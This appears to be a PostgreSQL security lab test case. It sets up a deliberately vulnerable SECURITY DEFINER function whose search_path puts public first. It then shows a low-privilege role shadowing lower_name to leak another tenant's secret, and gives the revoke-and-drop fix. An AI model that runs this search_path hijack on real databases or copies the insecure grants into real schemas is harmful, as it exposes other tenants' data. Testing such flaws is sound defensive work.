-- app role may CREATE in a schema on a search_path (PG<15 default for public) -> shadows unqualified names

--- setup
GRANT CREATE, USAGE ON SCHEMA public TO PUBLIC;
CREATE FUNCTION app.report() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN lower_name((SELECT max(secret) FROM app.project WHERE tenant_id=2)); END $$;
CREATE FUNCTION app.lower_name(text) RETURNS text LANGUAGE sql AS 'select ''***''';
ALTER FUNCTION app.report() SET search_path = public, app; GRANT EXECUTE ON FUNCTION app.report(), app.lower_name(text) TO rls_app;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.x('CREATE OR REPLACE FUNCTION public.lower_name(x text) RETURNS text LANGUAGE sql AS ''select x''');
SELECT lab.v(coalesce(app.report() like 'victim%',false), 'definer function called attacker''s public.lower_name');

--- fix
DROP FUNCTION IF EXISTS public.lower_name(text); REVOKE CREATE ON SCHEMA public FROM PUBLIC;
